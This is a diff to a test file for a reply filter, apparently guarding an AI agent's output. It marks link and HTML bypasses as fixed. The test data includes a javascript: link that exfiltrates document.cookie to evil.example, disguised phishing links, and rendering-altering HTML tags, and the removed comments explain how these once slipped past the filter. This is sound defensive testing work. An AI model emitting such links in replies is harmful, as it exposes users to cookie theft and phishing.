@@ -47,11 +47,10 @@ describe("reply links", () => {
     expect(entry?.rule).toBe("reply-format");
   });
 
-  // BYPASS: reply-gate.ts's LINK only recognises `scheme://` and `www.`; a Markdown link whose
-  // target has no `//` is not seen as a link at all, so it is neither host-checked nor refused.
-  // Each of these renders as a clickable link in Markdown (GitHub, most chat UIs) that leads
-  // off the allowlist or runs script.
-  it.fails.each([
+  // Fixed (was a bypass): a Markdown link target without `//` was not seen as a link at all.
+  // Every Markdown link target must now be an absolute https URL on an allowlisted host, and
+  // script, data and mail schemes are refused anywhere.
+  it.each([
     ["javascript: URL", "[github.com](javascript:fetch('//evil.example/'+document.cookie))"],
     ["protocol-relative URL", "[github.com](//evil.example/login)"],
     ["scheme without slashes", "[github.com](https:evil.example/login)"],
@@ -63,9 +62,8 @@ describe("reply links", () => {
     expect(run).toEqual(["escalate", "mark_read"]);
   });
 
-  // BYPASS (low): HTML_TAG lists a fixed set of element names; unlisted elements without
-  // attributes pass. `<dialog>`/`<plaintext>`/`<xmp>` change how the rest of the text renders.
-  it.fails.each([["<plaintext>"], ["<xmp>"], ["<dialog open>"], ["<center>"]])("refuses the HTML element %s", async (tag) => {
+  // Fixed (was a bypass): the element list now covers the obsolete and rarely used elements too.
+  it.each([["<plaintext>"], ["<xmp>"], ["<dialog open>"], ["<center>"]])("refuses the HTML element %s", async (tag) => {
     const { kinds: run } = await replyVerdict(`hi ${tag} there`);
     expect(run).toEqual(["escalate", "mark_read"]);
   });
